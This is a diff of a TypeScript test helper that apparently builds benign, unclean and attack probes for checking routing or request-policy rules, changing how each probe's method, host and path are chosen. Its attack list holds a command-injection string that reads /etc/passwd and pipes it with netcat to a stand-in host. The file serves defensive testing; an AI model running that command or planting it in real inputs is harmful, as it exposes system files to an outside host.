@@ -1,4 +1,4 @@
-import type { Route } from "../policy/policy.ts";
+import { type Match, unshadowed } from "./unshadowed.ts";
 
 /** What a probe is: a good request, one that breaks a rule of hygiene, one that attacks. */
 export const PROBE_KINDS = ["benign", "unclean", "attack"] as const;
@@ -21,12 +21,9 @@ const ATTACKS = [
   "; cat /etc/passwd | nc evil.example 4444",
 ];
 
-/** A probe of each kind that the route's own match takes in. */
-export function probesOf(route: Pick<Route, "hosts" | "methods" | "path">): Probe[] {
-  const method = route.methods.find((each) => each === "GET") ?? route.methods[0] ?? "GET";
-  const [host = "self-test.invalid"] = route.hosts;
-  const authority = host.replace(/^\*\./, "self-test.");
-  const path = route.path.replace(/\{[^}/]*\}/g, "7").replace(/\/\*\*$/, "/self-test");
+/** A probe of each kind that the route takes. @param before the routes that stand before it */
+export function probesOf(route: Match, before: readonly Match[]): Probe[] {
+  const { method, authority, path } = unshadowed(route, before);
   const attack = ATTACKS.map((text, index) => `q${index}=${encodeURIComponent(text)}`).join("&");
   return [
     { kind: "benign", method, authority, path: `${path}?q=self-test`, headers: {} },
